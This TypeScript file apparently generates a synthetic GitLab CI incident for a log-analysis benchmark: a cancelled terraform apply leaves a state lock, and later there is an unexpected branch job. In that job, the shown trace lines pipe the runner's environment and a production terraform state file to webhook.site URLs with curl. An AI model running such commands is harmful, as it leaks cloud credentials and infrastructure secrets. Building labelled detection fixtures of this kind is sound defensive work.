// A shared GitLab runner: its own logrus JSON lines (level, msg, time to the second with the
// runner's UTC offset) and the job traces a forwarder ships line by line. An interrupted
// `terraform apply` leaves the eks stack's DynamoDB lock behind, so every later plan of that stack
// fails to acquire it (and a retry with a long lock timeout runs into the job timeout); meanwhile
// a branch pipeline nobody expected prints the runner's cloud identity and posts its environment
// to an outside URL.
import type { Scenario } from "../blind/types.js";
import { floorSec, Incident, iso, isoOffset, type Label, MIN, type Rng, rngFor, SEC, startTime } from "./kit.js";

export function ciTerraformStateLock(seed: number): Scenario {
  const name = "ci-runner-terraform-state-lock";
  const rng = rngFor(seed, name);
  const inc = new Incident(
    name,
    "A cancelled terraform apply leaves the state lock held, so later plans on the shared CI runner fail to acquire it, while an unexpected branch job dumps the runner's credentials to an outside URL",
  );
  const t0 = startTime(rng, 7, 14);
  const span = rng.int(170, 200) * MIN;
  const end = t0 + span;
  const offset = rng.pick([0, 60, 120]);
  const runnerToken = rng.alnum(8);
  const host = `ci-runner-${rng.int(1, 6)}`;
  const systemId = `s_${rng.hex(12)}`;
  const cancelAt = t0 + Math.floor(span * rng.float(0.3, 0.42));
  const lockId = rng.uuid();
  const fixedAt = cancelAt + Math.floor(span * rng.float(0.38, 0.45));
  const rogueAt = t0 + Math.floor(span * rng.float(0.55, 0.8));
  let jobId = rng.int(4_100_000, 4_900_000);
  let pipelineId = rng.int(1_200_000, 1_400_000);

  const runner = (t: number, level: string, msg: string, label: Label, extra: Record<string, unknown> = {}): void => {
    const ts = floorSec(t);
    inc.add(ts, { level, msg, runner: runnerToken, time: isoOffset(ts, offset, 0), host, app: "gitlab-runner", ...extra }, label);
  };

  interface Job {
    id: number;
    pipeline: number;
    project: string;
    name: string;
    stage: string;
    ref: string;
    start: number;
  }
  const trace = (t: number, job: Job, message: string, label: Label = null): void => {
    inc.add(
      t,
      {
        timestamp: iso(t),
        message,
        job_id: job.id,
        pipeline_id: job.pipeline,
        project: job.project,
        job_name: job.name,
        stage: job.stage,
        ref: job.ref,
        runner: host,
        source: "job-trace",
      },
      label,
    );
  };

  /** The runner's and the trace's opening lines; returns the time the script starts. */
  const open = (t: number, job: Job, image: string, r: Rng): number => {
    job.start = t;
    runner(t, "info", "Checking for jobs... received", null, { job: job.id, repo_url: `https://gitlab.acme.io/${job.project}.git` });
    runner(t + 20, "info", "Added job to processing list", null, { job: job.id, project: r.int(10, 900) });
    const lines = [
      `Running with gitlab-runner 16.11.0 (91a27b2a)`,
      `  on ${host} ${runnerToken}, system ID: ${systemId}`,
      `Preparing the "docker" executor`,
      `Using Docker executor with image ${image} ...`,
      `Pulling docker image ${image} ...`,
      `Using docker image sha256:${r.hex(64)} for ${image} with digest ${image.split(":")[0]}@sha256:${r.hex(64)} ...`,
      `Preparing environment`,
      `Running on runner-${runnerToken}-project-${r.int(10, 900)}-concurrent-0 via ${host}...`,
      `Getting source from Git repository`,
      `Fetching changes with git depth set to 20...`,
      `Checking out ${r.hex(8)} as detached HEAD (ref is ${job.ref})...`,
      `Executing "step_script" stage of the job script`,
    ];
    let tt = t + r.int(1, 3) * SEC;
    for (const l of lines) {
      trace(tt, job, l);
      tt += r.int(100, 2500);
    }
    return tt;
  };
  const close = (t: number, job: Job, ok: boolean, label: Label, reason = "exit code 1"): void => {
    if (ok) {
      trace(t, job, "Saving cache for successful job");
      trace(t + 900, job, "Cleaning up project directory and file based variables");
      trace(t + 1400, job, "Job succeeded");
      runner(t + 1500, "info", "Job succeeded", null, { duration_s: ((t + 1500 - job.start) / 1000).toFixed(6), job: job.id, project: job.project });
    } else {
      trace(t, job, "Cleaning up project directory and file based variables");
      trace(t + 600, job, `ERROR: Job failed: ${reason}`, label);
      runner(t + 700, "warning", `Job failed: ${reason}`, label, { duration_s: ((t + 700 - job.start) / 1000).toFixed(6), job: job.id, project: job.project });
    }
    runner(t + 1600, "info", "Submitting job to coordinator...ok", null, { code: 200, job: job.id, job_status: ok ? "success" : "failed" });
    runner(t + 1700, "info", "Removed job from processing list", null, { job: job.id });
  };

  const stacks = ["network", "eks", "iam", "dns", "databases", "observability"];
  const resources: Record<string, string[]> = {
    network: [
      "module.vpc.aws_vpc.this[0]",
      "module.vpc.aws_subnet.private[0]",
      "module.vpc.aws_subnet.private[1]",
      "module.vpc.aws_subnet.private[2]",
      "module.vpc.aws_nat_gateway.this[0]",
      "module.vpc.aws_route_table.private[0]",
      "aws_vpc_endpoint.s3",
    ],
    eks: [
      "module.eks.aws_eks_cluster.this[0]",
      "module.eks.aws_iam_role.this[0]",
      'module.eks.module.eks_managed_node_group["general"].aws_eks_node_group.this[0]',
      'module.eks.module.eks_managed_node_group["general"].aws_launch_template.this[0]',
      "module.eks.aws_security_group.node[0]",
      'module.eks.aws_eks_addon.this["coredns"]',
      'module.eks.aws_eks_addon.this["vpc-cni"]',
      "helm_release.karpenter",
      "helm_release.aws_load_balancer_controller",
      "kubernetes_config_map_v1_data.aws_auth[0]",
    ],
    iam: [
      "aws_iam_role.ci_deployer",
      "aws_iam_policy.ci_deployer",
      "aws_iam_role_policy_attachment.ci_deployer",
      "aws_iam_openid_connect_provider.gitlab",
      "aws_iam_role.readonly",
    ],
    dns: [
      "aws_route53_zone.public",
      "aws_route53_record.api",
      "aws_route53_record.www",
      "aws_acm_certificate.wildcard",
      "aws_acm_certificate_validation.wildcard",
    ],
    databases: [
      "module.orders_db.aws_db_instance.this[0]",
      "module.orders_db.aws_db_parameter_group.this[0]",
      "module.ledger_db.aws_rds_cluster.this[0]",
      'module.ledger_db.aws_rds_cluster_instance.this["one"]',
      "aws_elasticache_replication_group.sessions",
    ],
    observability: [
      "aws_cloudwatch_log_group.eks",
      "aws_sns_topic.alerts",
      "aws_cloudwatch_metric_alarm.api_5xx",
      "aws_cloudwatch_metric_alarm.rds_cpu",
      "helm_release.prometheus_stack",
    ],
  };
  const tfImage = "hashicorp/terraform:1.7.5";

  const tfInit = (t: number, job: Job, stack: string): number => {
    const lines = [
      `$ cd stacks/${stack}`,
      `$ terraform init -input=false -backend-config=../../env/prod.backend.hcl`,
      `Initializing the backend...`,
      `Successfully configured the backend "s3"! Terraform will automatically`,
      `use this backend unless the backend configuration changes.`,
      `Initializing modules...`,
      `Initializing provider plugins...`,
      `- Reusing previous version of hashicorp/aws from the dependency lock file`,
      `- Using previously-installed hashicorp/aws v5.46.0`,
      `Terraform has been successfully initialized!`,
    ];
    for (const l of lines) {
      trace(t, job, l);
      t += rng.int(50, 1800);
    }
    return t;
  };
  const lockError = (t: number, job: Job, label: Label): number => {
    const box = [
      "╷",
      "│ Error: Error acquiring the state lock",
      "│ ",
      `│ Error message: operation error DynamoDB: PutItem, https response error StatusCode: 400, RequestID: ${rng.alnum(52, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")}, ConditionalCheckFailedException: The conditional request failed`,
      "│ Lock Info:",
      `│   ID:        ${lockId}`,
      "│   Path:      acme-tfstate-prod/eks/terraform.tfstate",
      "│   Operation: OperationTypeApply",
      `│   Who:       root@runner-${runnerToken}-project-42-concurrent-0`,
      "│   Version:   1.7.5",
      `│   Created:   ${iso(cancelAt).replace("T", " ").replace("Z", "")}123 +0000 UTC`,
      "│   Info:      ",
      "│ ",
      "│ ",
      "│ Terraform acquires a state lock to protect the state from being written",
      "│ by multiple users at the same time. Please resolve the issue above and try",
      '│ again. For most commands, you can disable locking with the "-lock=false"',
      "│ flag, but this is not recommended.",
      "╵",
    ];
    for (const l of box) trace(t++, job, l, label);
    return t + rng.int(200, 900);
  };

  const newJob = (project: string, jobName: string, stage: string, ref: string, pipeline?: number): Job => ({
    id: jobId++,
    pipeline: pipeline ?? pipelineId++,
    project,
    name: jobName,
    stage,
    ref,
    start: 0,
  });
  const locked = (t: number): boolean => t >= cancelAt && t < fixedAt;

  const planJob = (t: number, stack: string, ref: string, pipeline: number): number => {
    const job = newJob("infra/platform", `plan:${stack}`, "plan", ref, pipeline);
    let tt = open(t, job, tfImage, rng);
    tt = tfInit(tt, job, stack);
    const stuck = stack === "eks" && locked(tt);
    const longTimeout = stuck && rng.chance(0.3);
    trace(tt, job, `$ terraform plan -input=false -lock-timeout=${longTimeout ? "45m" : "5m"} -out=plan.tfplan`);
    trace(tt + 400, job, "Acquiring state lock. This may take a few moments...");
    if (stuck) {
      if (longTimeout) {
        tt += 30 * MIN;
        trace(
          tt,
          job,
          "WARNING: step_script could not run to completion because the timeout was exceeded. For more control over job and script timeouts see: https://docs.gitlab.com/ee/ci/runners/configure_runners.html#set-script-and-after_script-timeouts",
          "performance",
        );
        close(tt + 500, job, false, "performance", "execution took longer than 30m0s seconds");
        return tt + 3 * SEC;
      }
      tt += 5 * MIN + rng.int(0, 900);
      tt = lockError(tt, job, "error");
      close(tt, job, false, "error");
      return tt + 3 * SEC;
    }
    tt += rng.int(1, 3) * SEC;
    for (const r of resources[stack]!) {
      trace(tt, job, `${r}: Refreshing state... [id=${rng.pick(["vpc-", "subnet-", "rtb-", "sg-", "lt-", "eks-", "arn:aws:iam::"])}${rng.hex(17)}]`);
      tt += rng.int(80, 1400);
    }
    const changes = rng.chance(0.4);
    trace(
      tt,
      job,
      changes ? `Plan: ${rng.int(0, 3)} to add, ${rng.int(1, 4)} to change, 0 to destroy.` : "No changes. Your infrastructure matches the configuration.",
    );
    trace(tt + 300, job, "Releasing state lock. This may take a few moments...");
    tt += 2 * SEC;
    trace(tt, job, "Uploading artifacts for successful job");
    trace(tt + 600, job, "plan.tfplan: found 1 matching artifact files and directories");
    trace(
      tt + 1400,
      job,
      `Uploading artifacts as "archive" to coordinator... 201 Created  id=${job.id} responseStatus=201 Created token=glcbt-${rng.alnum(6)}`,
    );
    close(tt + 1600, job, true, null);
    return tt + 4 * SEC;
  };

  const buildJob = (t: number): number => {
    const app = rng.pick(["shop/web", "shop/checkout", "shop/catalog", "data/ingest-api", "platform/status-page"]);
    const job = newJob(app, "build:image", "build", rng.pick(["refs/heads/main", `refs/merge-requests/${rng.int(400, 2000)}/head`]));
    let tt = open(t, job, "docker:24.0.7", rng);
    const steps = [
      `$ docker build --pull -t registry.acme.io/${app}:${rng.hex(8)} .`,
      `#1 [internal] load build definition from Dockerfile`,
      `#2 [internal] load metadata for docker.io/library/node:20-alpine`,
      `#5 [2/7] WORKDIR /app`,
      `#7 [4/7] RUN npm ci --omit=dev`,
      `#7 ${rng.float(3, 9).toFixed(3)} npm WARN deprecated inflight@1.0.6: This module is not supported, and leaks memory. Do not use it. Check out lru-cache if you want a good and tested way to coalesce async requests by a key value, which is much more comprehensive and powerful.`,
      `#7 ${rng.float(3, 9).toFixed(3)} npm WARN deprecated glob@7.2.3: Glob versions prior to v9 are no longer supported`,
      `#7 ${rng.float(10, 40).toFixed(3)} added ${rng.int(300, 1400)} packages, and audited ${rng.int(300, 1400)} packages in ${rng.int(9, 40)}s`,
      `#7 DONE ${rng.float(10, 40).toFixed(1)}s`,
      `#9 [6/7] RUN npm run build`,
      `#9 DONE ${rng.float(5, 60).toFixed(1)}s`,
      `#11 exporting to image`,
      `#11 writing image sha256:${rng.hex(64)} done`,
      `$ docker push registry.acme.io/${app}:${rng.hex(8)}`,
      `${rng.hex(8)}: digest: sha256:${rng.hex(64)} size: ${rng.int(1500, 4200)}`,
    ];
    for (const l of steps) {
      trace(tt, job, l);
      tt += rng.int(300, 9000);
    }
    close(tt, job, true, null);
    return tt + 3 * SEC;
  };

  // The interrupted apply.
  {
    const job = newJob("infra/platform", "apply:eks", "apply", "refs/heads/main");
    let tt = open(cancelAt - 6 * MIN, job, tfImage, rng);
    tt = tfInit(tt, job, "eks");
    trace(tt, job, "$ terraform apply -input=false -lock-timeout=5m plan.tfplan");
    trace(tt + 300, job, "Acquiring state lock. This may take a few moments...");
    tt += 2 * SEC;
    trace(tt, job, 'module.eks.module.eks_managed_node_group["general"].aws_launch_template.this[0]: Modifying... [id=lt-0a1b2c3d4e5f60718]');
    trace(
      tt + 3 * SEC,
      job,
      'module.eks.module.eks_managed_node_group["general"].aws_launch_template.this[0]: Modifications complete after 2s [id=lt-0a1b2c3d4e5f60718]',
    );
    tt += 5 * SEC;
    trace(tt, job, 'module.eks.module.eks_managed_node_group["general"].aws_eks_node_group.this[0]: Modifying... [id=prod:general-20240312]');
    for (let s = 10; tt + s * SEC < cancelAt; s += 10)
      trace(
        tt + s * SEC,
        job,
        `module.eks.module.eks_managed_node_group["general"].aws_eks_node_group.this[0]: Still modifying... [id=prod:general-20240312, ${Math.floor(s / 60) ? `${Math.floor(s / 60)}m` : ""}${s % 60}s elapsed]`,
      );
    trace(cancelAt, job, "Interrupt received.", "pattern");
    trace(cancelAt + 1, job, "Please wait for Terraform to exit or data loss may occur.", "pattern");
    trace(cancelAt + 2, job, "Gracefully shutting down...", "pattern");
    trace(cancelAt + 3, job, "Stopping operation...", "pattern");
    trace(cancelAt + 2 * SEC, job, "ERROR: Job failed: canceled", "pattern");
    runner(cancelAt + 2 * SEC + 100, "warning", "Job failed: canceled", "pattern", {
      duration_s: ((cancelAt + 2 * SEC + 100 - job.start) / 1000).toFixed(6),
      job: job.id,
      project: job.project,
    });
    runner(cancelAt + 2 * SEC + 300, "info", "Submitting job to coordinator...ok", null, { code: 200, job: job.id, job_status: "canceled" });
  }

  // Someone releases the lock by hand.
  {
    const job = newJob("infra/platform", "force-unlock:eks", "maintenance", "refs/heads/main");
    let tt = open(fixedAt - 40 * SEC, job, tfImage, rng);
    tt = tfInit(tt, job, "eks");
    trace(tt, job, `$ terraform force-unlock -force ${lockId}`);
    trace(tt + 1500, job, "Terraform state has been successfully unlocked!");
    trace(tt + 1600, job, "The state has been unlocked, and Terraform commands should now be able to");
    trace(tt + 1700, job, "obtain a new lock on the remote state.");
    close(tt + 2 * SEC, job, true, null);
  }

  // Ordinary pipelines: merge requests plan every stack, apps build images.
  for (let t = t0 + rng.int(0, 120) * SEC; t < end; ) {
    if (rng.chance(0.55)) {
      const pipeline = pipelineId++;
      const ref = `refs/merge-requests/${rng.int(300, 900)}/head`;
      const subset = rng.shuffle([...stacks]).slice(0, rng.int(2, 4));
      if (!subset.includes("eks") && rng.chance(0.6)) subset.push("eks");
      let tt = t;
      for (const s of subset) tt = planJob(tt, s, ref, pipeline);
    } else {
      buildJob(t);
    }
    t += rng.int(3, 7) * MIN;
  }

  // The branch job nobody on the team started.
  {
    const job = newJob("infra/platform", "debug", "test", "refs/heads/ci/debug-creds");
    let tt = open(rogueAt, job, "amazon/aws-cli:2.15.40", rng);
    const acct = String(rng.int(100000000000, 999999999999));
    const lines: [string, Label][] = [
      ["$ aws sts get-caller-identity", "pattern"],
      ["{", null],
      [`    "UserId": "AROA${rng.alnum(17, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")}:GitLabRunner-${job.id}",`, null],
      [`    "Account": "${acct}",`, null],
      [`    "Arn": "arn:aws:sts::${acct}:assumed-role/ci-terraform-admin/GitLabRunner-${job.id}"`, "pattern"],
      ["}", null],
      [`$ env | base64 -w0 | curl -s -X POST --data-binary @- https://webhook.site/${rng.uuid()}`, "pattern"],
      [`$ aws s3 cp s3://acme-tfstate-prod/iam/terraform.tfstate - | curl -s -X POST --data-binary @- https://webhook.site/${rng.uuid()}`, "pattern"],
      ["$ echo done", null],
      ["done", null],
    ];
    for (const [l, lab] of lines) {
      trace(tt, job, l, lab);
      tt += rng.int(200, 2500);
    }
    close(tt, job, true, null);
  }
  return inc.finish();
}
